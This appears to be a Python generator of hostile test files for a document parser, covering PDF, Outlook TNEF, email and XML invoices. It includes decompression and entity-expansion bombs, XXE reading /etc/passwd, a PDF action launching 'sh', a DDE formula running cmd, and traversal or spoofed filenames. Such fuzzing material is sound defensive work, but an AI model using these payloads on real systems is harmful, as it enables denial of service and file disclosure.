        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    if not table:
        return bytes(body) + b"trailer << %s >>\n%%%%EOF" % trailer
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(body) + b"trailer << /Size %d %s >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, start)


def stream_of(data: bytes, head: bytes = b"/Filter /FlateDecode") -> bytes:
    """A stream of bytes as they are."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), head, data)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R %s >>"
_FONT = b"/Resources << /Font << /F 5 0 R >> >>"
_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page_of(contents: bytes, page: bytes = b"", *more: bytes, catalog: bytes = _CATALOG, trailer: bytes = b"") -> bytes:
    """A file of one page with these contents."""
    return pdf_of(catalog, _TREE, _PAGE % page, contents, *more, trailer=b"/Root 1 0 R " + trailer)


def _text(lines: Iterable[bytes]) -> bytes:
    return b"BT /F 10 Tf 50 750 Td 12 TL " + b" ".join(b"(%s) Tj T*" % line for line in lines) + b" ET"


@attack("pdf")
def objects_in_a_circle() -> bytes:
    """Objects that are references to each other, where a page should be."""
    return pdf_of(_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"4 0 R", b"3 0 R")


@attack("pdf")
def pages_in_a_circle() -> bytes:
    """A tree of pages that is its own child."""
    return pdf_of(_CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3 >>")


@attack("pdf")
def pages_doubled_thirty_times() -> bytes:
    """A tree of pages in which every branch is twice the next: a billion leaves."""
    branches = (
        b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>" % (n + 3, n + 3, 2 ** (30 - n)) for n in range(30)
    )
    return pdf_of(_CATALOG, *branches, b"<< /Type /Page /MediaBox [0 0 9 9] >>")


@attack("pdf")
def a_million_pages() -> bytes:
    """A million times the same page."""
    kids = b"3 0 R " * 1_000_000
    return pdf_of(_CATALOG, b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % kids, _PAGE % b"", stream_of(b"", b""))


@attack("pdf")
def pages_that_are_counted_only() -> bytes:
    """Says that it has two billion pages."""
    return pdf_of(_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", _PAGE % b"", stream_of(b"", b""))


@attack("pdf")
def deep_pages() -> bytes:
    """A tree of pages a hundred thousand levels deep."""
    levels = (b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 3) for n in range(30_000))
    return pdf_of(_CATALOG, *levels, b"<< /Type /Page /MediaBox [0 0 9 9] >>")


@attack("pdf")
def page_of_a_mile() -> bytes:
    """A page of a billion points, with text on it."""
    box = b"/MediaBox [0 0 1000000000 1000000000]"
    return page_of(stream_of(_text([b"Senores clientes"] * 30), b""), box + _FONT, _HELVETICA)


@attack("pdf")
def page_of_nothing() -> bytes:
    """Pages of no size, of a negative one, and of one that is no number."""
    boxes = (b"[0 0 0 0]", b"[9 9 -9 -9]", b"[0 0 (a) /b]", b"[0 0 1e38 1e38]", b"[]", b"[0 0 1e-30 1e-30]")
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(len(boxes)))
    pages = (b"<< /Type /Page /Parent 2 0 R /MediaBox %s >>" % box for box in boxes)
    return pdf_of(_CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(boxes)), *pages)


@attack("pdf")
def flate_bomb() -> bytes:
    """Contents that unpack to four hundred megabytes of nothing."""
    return page_of(
        stream_of(zlib.compress(zlib.compress(bytes(400 * MEBIBYTE), 1), 9), b"/Filter [/FlateDecode /FlateDecode]")
    )


@attack("pdf")
def text_without_end() -> bytes:
    """A page of two million words."""
    data = zlib.compress(_text([b"Senores del cliente"] * 300_000), 9)
    return page_of(stream_of(data), _FONT, _HELVETICA)


@attack("pdf")
def filters_in_a_chain() -> bytes:
    """Two hundred filters, one after the other."""
    chain = b"/ASCIIHexDecode " * 100 + b"/RunLengthDecode " * 50 + b"/LZWDecode " * 50
    return page_of(stream_of(b"00" * 100_000, b"/Filter [%s]" % chain))


@attack("pdf")
def tables_in_a_circle() -> bytes:
    """A table of objects whose predecessor is itself."""
    plain = page_of(stream_of(b"", b""))
    start = plain.rindex(b"xref\n0")
    return plain.replace(b"trailer << ", b"trailer << /Prev %d /XRefStm %d " % (start, start))


@attack("pdf")
def table_that_lies() -> bytes:
    """A table of objects that leads everywhere but to them."""
    return page_of(stream_of(b"", b"")).replace(b" 00000 n", b" 00001 n").replace(b"startxref\n", b"startxref\n9999999")


@attack("pdf")
def table_of_everything() -> bytes:
    """Says that it has four billion objects."""
    return (
        page_of(stream_of(b"", b""))
        .replace(b"xref\n0 ", b"xref\n0 4294967295\n0 ")
        .replace(b"/Size ", b"/Size 99999999")
    )


@attack("pdf")
def no_table() -> bytes:
    """Two hundred thousand objects and no table, so that all of them are looked for."""
    return pdf_of(_CATALOG, _TREE, _PAGE % b"", *([b"<< >>"] * 200_000), table=False)


def _picture(head: bytes, data: bytes, width: int = 60_000, height: int = 60_000) -> bytes:
    page = b"/Resources << /XObject << /I 5 0 R >> >>"
    size = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceRGB " % (
        width,
        height,
    )
    return page_of(stream_of(b"q 612 0 0 792 0 0 cm /I Do Q", b""), page, stream_of(data, size + head))


@attack("pdf")
def picture_of_flate() -> bytes:
    """A picture of ten gigabytes that is packed nothing."""
    return _picture(b"/Filter /FlateDecode", zlib.compress(bytes(30 * MEBIBYTE), 9))


@attack("pdf")
def picture_of_jbig2() -> bytes:
    """A picture of JBIG2 that says it is four billion dots wide."""
    segment = struct.pack(">IBBBIIIIIBH", 0, 48, 0, 1, 19, 0xFFFFFFF0, 0xFFFFFFF0, 0, 0, 0, 0)
    return _picture(b"/Filter /JBIG2Decode", segment * 50)


@attack("pdf")
def picture_of_jpx() -> bytes:
    """A picture of JPEG 2000 with sixty thousand tiles of one dot."""
    size = struct.pack(">HHHIIIIIIIIH", 0xFF51, 41, 0, 60_000, 60_000, 0, 0, 1, 1, 0, 0, 1) + b"\x07\x01\x01"
    return _picture(b"/Filter /JPXDecode", b"\xff\x4f" + size + b"\xff\xd9")


@attack("pdf")
def picture_of_a_fax() -> bytes:
    """A fax of sixty thousand columns and as many rows, all white."""
    parms = b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"
    return _picture(parms, b"\xff" * 10_000)


@attack("pdf")
def pictures_by_the_thousand() -> bytes:
    """A page that shows one picture half a million times."""
    page = b"/Resources << /XObject << /I 5 0 R >> >>"
    head = b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    return page_of(stream_of(zlib.compress(b"/I Do " * 500_000)), page, stream_of(bytes(81), head))


@attack("pdf")
def forms_in_forms() -> bytes:
    """Thirty drawings, each of which holds the next one twice."""
    drawn = (
        stream_of(
            b"/X Do /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>" % (n + 6),
        )
        for n in range(30)
    )
    return page_of(
        stream_of(b"/X Do", b""),
        b"/Resources << /XObject << /X 5 0 R >> >>",
        *drawn,
        stream_of(b"0 0 9 9 re f", b"/Subtype /Form /BBox [0 0 9 9]"),
    )


@attack("pdf")
def form_in_itself() -> bytes:
    """A drawing that holds itself."""
    own = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"
    return page_of(
        stream_of(b"/X Do", b""), b"/Resources << /XObject << /X 5 0 R >> >>", stream_of(b"/X Do /X Do", own)
    )


@attack("pdf")
def font_of_noise() -> bytes:
    """A font whose programme is noise, with a map of letters that names every letter for every code."""
    letters = (
        b"begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange "
        + b"100 beginbfrange <0000> <ffff> <0000> endbfrange " * 2_000
    )
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R /ToUnicode 8 0 R >>"
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R >>"
    return page_of(
        stream_of(_text([b"hola"] * 40), b""),
        _FONT,
        font,
        descriptor,
        stream_of(_noise(50_000), b""),
        stream_of(letters, b""),
    )


@attack("pdf")
def font_that_draws_itself() -> bytes:
    """A font whose letters are drawn with that font."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 "
        b"/Widths [9] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> %s >>" % _FONT
    )
    return page_of(
        stream_of(_text([b"aaaaaaaaaaaaaaaaaaaaaa"] * 40), b""),
        _FONT,
        font,
        stream_of(b"9 0 d0 " + _text([b"aaaa"]), b""),
    )


@attack("pdf")
def file_in_a_file() -> bytes:
    """Files embedded in each other, ten deep, twenty copies each."""
    content = page_of(stream_of(b"", b""))
    for _ in range(6):
        names = b"".join(b"(%d) << /Type /Filespec /UF (%d.pdf) /EF << /F 5 0 R >> >>" % (n, n) for n in range(20))
        catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [%s] >> >> >>" % names
        content = page_of(stream_of(b"", b""), b"", stream_of(zlib.compress(content)), catalog=catalog)
    return content


@attack("pdf")
def embedded_bomb() -> bytes:
    """Twenty embedded files that unpack to a hundred megabytes each."""
    names = b"".join(b"(%d) << /Type /Filespec /UF (%d.xml) /EF << /F 5 0 R >> >>" % (n, n) for n in range(20))
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [%s] >> >> >>" % names
    return page_of(
        stream_of(b"", b""), b"", stream_of(zlib.compress(b"<?xml" + bytes(100 * MEBIBYTE), 9)), catalog=catalog
    )


@attack("pdf")
def embedded_names_of_no_alphabet() -> bytes:
    """Embedded files whose names are halves of letters, and whose tree of names is its own child."""
    names = b"(a) << /Type /Filespec /UF <FEFFD800D800> /EF << /F 5 0 R >> >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [%s] /Kids [1 0 R] >> >> >>" % names
    return page_of(stream_of(b"", b""), b"", stream_of(b"<?xml version='1.0'?><a/>", b""), catalog=catalog)


@attack("pdf")
def text_of_no_alphabet() -> bytes:
    """Words that are halves of letters, signs that turn the line around, and zero bytes."""
    codes = b"<61> <D800> <62> <202E> <63> <0000> <64> <DFFF0041> <65> <FFFE>"
    letters = b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange 5 beginbfchar %s endbfchar endcmap" % codes
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    return page_of(stream_of(_text([b"Senores abcde memorando"] * 40), b""), _FONT, font, stream_of(letters, b""))


@attack("pdf")
def scripts() -> bytes:
    """Runs programmes, scripts and mails itself when it is opened."""
    launch = b"/Next << /S /Launch /F (sh) /Next << /S /URI /URI (http://127.0.0.1:9/) >> >>"
    action = b"/OpenAction << /S /JavaScript /JS (while\\(1\\)\\{app.alert\\(1\\)\\}) %s >>" % launch
    return page_of(
        stream_of(_text([b"Senores"] * 9), b""),
        _FONT,
        _HELVETICA,
        catalog=b"<< /Type /Catalog /Pages 2 0 R %s >>" % action,
    )


@attack("pdf")
def form_of_xml() -> bytes:
    """A form of XFA whose XML laughs a billion times and asks a server."""
    xfa = f'{_LAUGHING}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>while(1);</script>&l11;</template></xdp:xdp>'
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> >>"
    return page_of(stream_of(b"", b""), b"", stream_of(xfa.encode(), b""), catalog=catalog)


@attack("pdf")
def fields_by_the_thousand() -> bytes:
    """A form of five thousand fields on one page."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (hola) /Rect [0 0 9 9] /P 3 0 R >>"
    numbers = b" ".join(b"%d 0 R" % n for n in range(5, 5_005))
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>" % numbers
    return page_of(stream_of(b"", b""), b"/Annots [%s]" % numbers, *([field] * 5_000), catalog=catalog)


@attack("pdf")
def field_in_a_circle() -> bytes:
    """Fields of a form that are each other's parents and children."""
    one = b"<< /Subtype /Widget /FT /Tx /T (a) /Parent 6 0 R /Kids [6 0 R] /Rect [0 0 9 9] >>"
    other = b"<< /Subtype /Widget /FT /Btn /T (b) /Parent 5 0 R /Kids [5 0 R] /Rect [0 0 9 9] >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R 6 0 R] /NeedAppearances true >> >>"
    return page_of(stream_of(b"", b""), b"/Annots [5 0 R 6 0 R]", one, other, catalog=catalog)


def _locked(owner: bytes, user: bytes, more: bytes = b"/V 1 /R 2") -> bytes:
    encrypt = b"/Encrypt << /Filter /Standard %s /O <%s> /U <%s> /P -4 >> /ID [<00> <00>]" % (
        more,
        owner.hex().encode(),
        user.hex().encode(),
    )
    return page_of(stream_of(_text([b"hola"]), b""), _FONT, _HELVETICA, trailer=encrypt)


@attack("pdf")
def locked_with_a_password() -> bytes:
    """Encrypted with a password that nobody knows."""
    return _locked(bytes(32), b"\x01" * 32)


@attack("pdf")
def locked_by_an_unknown_method() -> bytes:
    """Encrypted by methods that do not exist, with keys of no length."""
    return _locked(b"", b"", b"/V 99 /R 99 /Length 0 /StmF /X /StrF /Y /CF << >>")


@attack("pdf")
def locked_with_endless_rounds() -> bytes:
    """Encrypted by revision six, whose password is hashed again and again."""
    return _locked(
        b"\x02" * 48,
        b"\x03" * 48,
        b"/V 5 /R 6 /Length 256 /OE <00> /UE <00> /Perms <00> /StmF /S /StrF /S /CF << /S << /CFM /AESV3 >> >>",
    )


@attack("pdf")
def signature_that_lies() -> bytes:
    """Signatures over bytes before the beginning, behind the end, and of two billion."""
    ranges = (b"[-1 -1 -1 -1]", b"[0 2147483647 2147483647 2147483647]", b"[0 0 0 0]", b"[9 9]", b"[/a (b) 1.5 null]")
    fields = b" ".join(b"%d 0 R" % n for n in range(5, 5 + len(ranges)))
    values = (
        b"<< /FT /Sig /T (s) /V << /Type /Sig /SubFilter /adbe.pkcs7.detached /ByteRange %s /Contents <3080> >> >>"
        % one
        for one in ranges
    )
    return page_of(
        stream_of(b"", b""),
        b"",
        *values,
        catalog=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /SigFlags 3 /Fields [%s] >> >>" % fields,
    )


@attack("pdf")
def signatures_by_the_thousand() -> bytes:
    """Five thousand signatures of nested brackets."""
    nested = b"\x30\x80" * 2_000
    value = (
        b"<< /FT /Sig /T (s) /V << /Type /Sig /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 9 9] /Contents <%s> >> >>"
        % nested.hex().encode()
    )
    fields = b" ".join(b"5 0 R" for _ in range(5_000))
    return page_of(
        stream_of(b"", b""),
        b"",
        value,
        catalog=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /SigFlags 3 /Fields [%s] >> >>" % fields,
    )


@attack("pdf")
def arrays_in_arrays() -> bytes:
    """Two hundred thousand brackets in each other."""
    return pdf_of(_CATALOG, b"[" * 200_000 + b"]" * 200_000, table=False)


@attack("pdf")
def objects_in_a_stream_of_themselves() -> bytes:
    """A stream of objects that holds itself and a million others."""
    inner = stream_of(
        zlib.compress(b"5 0 " * 100_000), b"/Type /ObjStm /N 1000000 /First 8 /Extends 5 0 R /Filter /FlateDecode"
    )
    return page_of(stream_of(b"", b""), b"", inner)


@attack("pdf")
def head_alone() -> bytes:
    """Nothing but its first line."""
    return b"%PDF-1.7\n"


# ---------------------------------------------------------------- TNEF


def _attribute(level: int, name: int, data: bytes, length: int | None = None) -> bytes:
    size = len(data) if length is None else length
    return struct.pack("<BII", level, name, size) + data + struct.pack("<H", sum(data) & 0xFFFF)


_TNEF = struct.pack("<IH", 0x223E9F78, 1)
_RENDERING, _TITLE, _DATA, _PROPERTIES, _PLAIN_PROPERTIES = 0x00069002, 0x00018010, 0x0006800F, 0x00069005, 0x00069003


@attack("dat")
def tnef_of_two_gigabytes() -> bytes:
    """An attachment that says it is two gigabytes long."""
    return _TNEF + _attribute(2, _RENDERING, bytes(14)) + _attribute(2, _DATA, b"x" * 50, 0x7FFFFFFF)


@attack("dat")
def tnef_of_no_length() -> bytes:
    """Thirty thousand attributes of no length."""
    return _TNEF + _attribute(2, _RENDERING, b"") * 30_000


@attack("dat")
def tnef_in_tnef() -> bytes:
    """Twenty files of Outlook in each other."""
    content = MEMO
    for _ in range(20):
        content = winmail([File(filename="winmail.dat", media_type="", content=content)]).content
    return content


@attack("dat")
def tnef_properties_without_number() -> bytes:
    """Four billion properties, of two billion values each."""
    properties = struct.pack("<I", 0xFFFFFFFF) + struct.pack("<HHI", 0x101F, 0x3707, 0x7FFFFFFF) + b"x" * 100
    return (
        _TNEF
        + _attribute(2, _RENDERING, bytes(14))
        + _attribute(2, _PROPERTIES, properties)
        + _attribute(1, _PLAIN_PROPERTIES, properties)
    )


@attack("dat")
def tnef_properties_of_nothing() -> bytes:
    """Properties that are all zeros, as many as fit."""
    return _TNEF + _attribute(1, _PLAIN_PROPERTIES, struct.pack("<I", 0x7FFFFFFF) + bytes(200_000))


@attack("dat")
def tnef_named_in_lines() -> bytes:
    """A file whose name goes on as a header of a mail and has zero bytes in it."""
    return winmail([File(filename="memo\r\nBcc: a@b.example\x00\x1b\x07.xlsx", media_type="", content=MEMO)]).content


@attack("dat")
def tnef_named_by_codes() -> bytes:
    """A code page that does not exist, and a name in it."""
    return (
        _TNEF
        + _attribute(1, 0x00069007, struct.pack("<II", 99_999, 0))
        + winmail([File(filename="\xf1", media_type="", content=MEMO)]).content[6:]
    )


@attack("dat")
def tnef_cut() -> bytes:
    """Ends in the head of an attribute."""
    return winmail([File(filename="a.xlsx", media_type="", content=MEMO)]).content[: -len(MEMO) - 6]


@attack("dat")
def tnef_of_many_files() -> bytes:
    """Twenty thousand files of one letter."""
    return (
        _TNEF
        + (_attribute(2, _RENDERING, bytes(14)) + _attribute(2, _TITLE, b"a\0") + _attribute(2, _DATA, b"x")) * 20_000
    )


@attack("dat")
def tnef_of_compressed_text() -> bytes:
    """Compressed RTF that says it unpacks to two gigabytes, of references to itself."""
    text = struct.pack("<IIII", 500, 0x7FFFFFFF, 0x75465A4C, 0) + b"\xff\x00\x0f" * 3_000
    properties = struct.pack("<IHHII", 1, 0x0102, 0x1009, 1, len(text)) + text
    return _TNEF + _attribute(1, _PLAIN_PROPERTIES, properties)


@attack("dat")
def tnef_of_a_message() -> bytes:
    """An embedded message that is the file itself."""
    inner = _TNEF + _attribute(2, _RENDERING, bytes(14))
    embedded = struct.pack("<IHHII", 1, 0x000D, 0x3701, 1, len(inner) + 16) + bytes(16) + inner
    return _TNEF + _attribute(2, _RENDERING, bytes(14)) + _attribute(2, _PROPERTIES, embedded)


# ---------------------------------------------------------------- mails

_HEAD = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: hola\r\nMIME-Version: 1.0\r\n"


def _parts(pieces: Iterable[bytes], boundary: bytes = b"b") -> bytes:
    opening = b"--" + boundary + b"\r\n"
    inside = b"".join(opening + piece + b"\r\n" for piece in pieces)
    return b"Content-Type: multipart/mixed; boundary=" + boundary + b"\r\n\r\n" + inside + b"--" + boundary + b"--\r\n"


def _file(name: bytes, content: bytes, more: bytes = b"") -> bytes:
    head = b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n" + more
    return head + b'Content-Disposition: attachment; filename="' + name + b'"\r\n\r\n' + base64.encodebytes(content)


@attack("eml")
def parts_ten_thousand_deep() -> bytes:
    """Parts in parts, ten thousand deep, each with a boundary of its own."""
    opening = (b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(10_000))
    return _HEAD + b"".join(opening) + b"hola\r\n"


@attack("eml")
def parts_that_begin_alike() -> bytes:
    """Parts in parts, whose boundaries are each the beginning of the next."""
    opening = (
        b"Content-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\n" % (b"b" * n, b"b" * n) for n in range(1, 60)
    )
    return _HEAD + b"".join(opening) + b"--bbbb\r\n" * 50_000


@attack("eml")
def parts_of_parts() -> bytes:
    """Eight hundred parts of eight hundred parts each, of nothing."""
    inner = _parts([b"\r\n"] * 800, b"i")
    return _HEAD + _parts([inner] * 800, b"o")


@attack("eml")
def mails_in_mails() -> bytes:
    """A thousand forwarded mails in each other."""
    return (_HEAD + b"Content-Type: message/rfc822\r\n\r\n") * 1_000 + _HEAD + b"\r\nhola"


@attack("eml")
def mails_in_base64() -> bytes:
    """Forwarded mails in each other, each of them in base64."""
    content = _HEAD + b"\r\nhola\r\n" + b"x" * 20_000
    for _ in range(15):
        content = (
            _HEAD
            + b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(content)
        )
    return content


@attack("eml")
def header_of_ten_megabytes() -> bytes:
    """A subject of ten megabytes."""
    return _HEAD + b"X: " + b"hola " * 2_000_000 + b"\r\n\r\nhola"


@attack("eml")
def headers_without_end() -> bytes:
    """Half a million headers."""
    return _HEAD + b"X: a\r\n" * 500_000 + b"\r\nhola"


@attack("eml")
def a_line_without_a_header() -> bytes:
    """A line of ten megabytes without a colon, where headers are."""
    return b"a" * (10 * MEBIBYTE)


@attack("eml")
def files_by_the_hundred_thousand() -> bytes:
    """A hundred thousand attachments."""
    return _HEAD + _parts([b"Content-Disposition: attachment; filename=a.pdf\r\n\r\nx"] * 100_000)


@attack("eml")
def names_in_pieces() -> bytes:
    """A file name in hundreds of pieces, out of order and doubled, and one of numbers without end."""
    pieces = b"".join(b'; filename*%d*="%%41"' % (n % 700) for n in range(1_400))
    return _HEAD + b"Content-Disposition: attachment" + pieces + b'; filename*9999999999="x"\r\n\r\nhola'


@attack("eml")
def semicolons() -> bytes:
    """Sixty kilobytes of semicolons and quotes as the parameters of a type."""
    return _HEAD + b"Content-Type: text/plain" + b'; a="b\\' * 10_000 + b"\r\n\r\nhola"


@attack("eml")
def brackets() -> bytes:
    """Addresses of brackets, quotes and comments that never close."""
    return b"From: " + b'(<"' * 20_000 + b"\r\nTo: " + b"<a@b" * 15_000 + b"\r\nCc: " + b"a:" * 30_000 + b"\r\n\r\nhola"


@attack("eml")
def base64_that_lies() -> bytes:
    """A file in base64 that has padding everywhere and is not."""
    return _HEAD + _parts(
        [
            b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=a.pdf\r\n\r\n"
            + b"A=\xff=\x00" * 200_000
        ]
    )


@attack("eml")
def quoted_that_lies() -> bytes:
    """Quoted text of nothing but its sign."""
    return _HEAD + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + b"=\r" * 500_000 + b"=" * 500_000


@attack("eml")
def alphabets() -> bytes:
    """Charsets that are modules of the language, paths, codecs that unpack, and names without end."""
    names = (
        b"zlib",
        b"bz2",
        b"hex",
        b"rot13",
        b"../../etc/passwd",
        b"os",
        b"utf-7",
        b"idna",
        b"unicode_escape",
        b"a" * 60_000,
        b"\xff",
        b"undefined",
    )
    return _HEAD + _parts(
        b"Content-Type: text/plain; charset=%s\r\n\r\n+2AA-x\xda" % name + b"\xff" * 1_000 for name in names
    )


@attack("eml")
def words_in_words() -> bytes:
    """A subject of ten thousand encoded words, each in another alphabet."""
    words = b" ".join(b"=?iso-8859-%d?%s?=DC=?=" % (n % 17, b"qb"[n % 2 : n % 2 + 1]) for n in range(6_000))
    return b"From: a@b.example\r\nSubject: " + words + b"\r\nTo: c@d.example\r\n\r\nhola"


@attack("eml")
def names_of_files() -> bytes:
    """File names from right to left, with zero bytes, upwards, of ten thousand letters, and the same again."""
    names = (
        "memo\u202exslx.exe".encode(),
        b"a\x00b.pdf",
        b"../../../etc/passwd",
        b"m" * 10_000 + b".pdf",
        b"CON",
        b".",
        b"a.pdf",
        b"a.pdf",
    )
    return _HEAD + _parts(_file(name, MEMO) for name in names)


# ---------------------------------------------------------------- XML


def _carried(text: str) -> str:
    described = f"<ExternalReference><Description>{text}</Description></ExternalReference>"
    return f"<AttachedDocument><Attachment>{described}</Attachment></AttachedDocument>"


_INVOICE = '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>FE-1</ID>{more}</Invoice>'


@attack("xml")
def laughing_invoice() -> bytes:
    """A billion laughs."""
    return f'<?xml version="1.0"?>{_LAUGHING}{_INVOICE.replace("{more}", "<IssueDate>&l11;</IssueDate>")}'.encode()


@attack("xml")
def quadratic_invoice() -> bytes:
    """One long entity, many times."""
    entity = f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>'
    return f"{entity}{_INVOICE.replace('{more}', '&q;' * 50_000)}".encode()


@attack("xml")
def foreign_invoice() -> bytes:
    """A document type on a server, and files of the machine as entities and parameters."""
    entities = '<!ENTITY % p SYSTEM "file:///etc/passwd"> %p; <!ENTITY f SYSTEM "file:///etc/passwd">'
    types = f'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd" [{entities}]>'
    return f'<?xml version="1.0"?>{types}{_INVOICE.replace("{more}", "<UUID>&f;</UUID>")}'.encode()


@attack("xml")
def including_invoice() -> bytes:
    """Includes another file, and asks for a style sheet on a server."""
    more = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return f'<?xml-stylesheet href="http://127.0.0.1:9/"?>{_INVOICE.replace("{more}", more)}'.encode()


@attack("xml")
def deep_invoice() -> bytes:
    """Half a million elements in each other."""
    return f"<Invoice>{'<a>' * 500_000}".encode()


@attack("xml")
def deep_and_closed_invoice() -> bytes:
    """Two hundred thousand elements in each other, all of them closed."""
    return f"<Invoice>{'<a>' * 200_000}{'</a>' * 200_000}</Invoice>".encode()


@attack("xml")
def attributes_by_the_hundred_thousand() -> bytes:
    """One element of two hundred thousand attributes."""
    attributes = "".join(f' a{n}="1"' for n in range(200_000))
    return f"<Invoice{attributes}><ID>1</ID></Invoice>".encode()


@attack("xml")
def containers_in_containers() -> bytes:
    """Invoices carried in documents carried in documents, ten deep, as text that is escaped again and again."""
    content = _INVOICE.replace("{more}", "")
    for _ in range(10):
        escaped = content.replace("&", "&amp;").replace("<", "&lt;").replace("]]>", "]]&gt;")
        content = _carried(escaped)
    return content.encode()


@attack("xml")
def laughing_container() -> bytes:
    """A billion laughs in the invoice that a container carries."""
    carried = f'<?xml version="1.0"?>{_LAUGHING}<Invoice><ID>&l11;</ID></Invoice>'
    return _carried(f"<![CDATA[{carried}]]>").encode()


@attack("xml")
def values_beyond_measure() -> bytes:
    """Amounts, days and names of a million letters."""
    long = "9" * 1_000_000
    total = f"<LegalMonetaryTotal><PayableAmount>{long}</PayableAmount></LegalMonetaryTotal>"
    more = f"<IssueDate>{long}</IssueDate>{total}<UUID>{long}</UUID>"
    return _INVOICE.replace("{more}", more + "<TaxTotal><TaxAmount>1</TaxAmount></TaxTotal>" * 50_000).encode()


@attack("xml")
def in_utf_16() -> bytes:
    """In UTF-16, with an entity that ASCII eyes do not see."""
    return f'<?xml version="1.0" encoding="UTF-16"?>{_LAUGHING}<Invoice><ID>&l11;</ID></Invoice>'.encode("utf-16")


@attack("xml")
def in_utf_7() -> bytes:
    """In UTF-7, in which brackets are other bytes."""
    return b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<Invoice><ID>1</ID></Invoice>'


@attack("xml")
def in_ebcdic() -> bytes:
    """In the alphabet of mainframes, in which nothing is what it seems."""
    return b"<?xml version='1.0' encoding='cp037'?>" + "<Invoice><ID>1</ID></Invoice>".encode("cp037")


# ---------------------------------------------------------------- several things at once


@attack("pdf")
def pdf_and_archive() -> bytes:
    """A letter that is an archive as well."""
    return LETTER + archive_of(Entry(data=MEMO))


@attack("zip")
def archive_and_pdf() -> bytes:
    """An archive that begins as one and holds a letter's bytes between its entries."""
    return archive_of(Entry(name=b"a.pdf", data=LETTER), Entry(data=MEMO))


@attack("gif")
def gif_and_jar() -> bytes:
    """A picture with an archive of programmes behind it."""
    return (
        b"GIF89a" + struct.pack("<HHBBB", 900, 900, 0, 0, 0) + b";" + packed({"META-INF/MANIFEST.MF": b"Main-Class: X"})
    )


@attack("pdf")
def page_of_the_web() -> bytes:
    """HTML with a script, under the name of a letter."""
    return b"<!DOCTYPE html><html><script>location='http://127.0.0.1:9/'</script>" + b"<b>" * 200_000


@attack("pdf")
def noise_behind_a_head() -> bytes:
    """The head of a letter, and noise."""
    return b"%PDF-1.7\n" + _noise(200_000)


@attack("xlsx")
def letter_and_workbook() -> bytes:
    """An archive that is a workbook and a letter at the same time."""
    book = zipfile.ZipFile(io.BytesIO(MEMO))
    parts = {name: book.read(name) for name in book.namelist()}
    return packed(
        parts | {"word/document.xml": b"<x/>", "xl/vbaProject.bin": b"x", "mimetype": b"x", "content.xml": b"<x/>"}
    )


@attack("xlsx")
def empty_name_of_a_workbook() -> bytes:
    """Nothing but zero bytes."""
    return bytes(100_000)


@attack("txt")
def formulas() -> bytes:
    """Text that begins as a formula does."""
    return b"=cmd|'/C calc'!A0\r\n" * 1_000


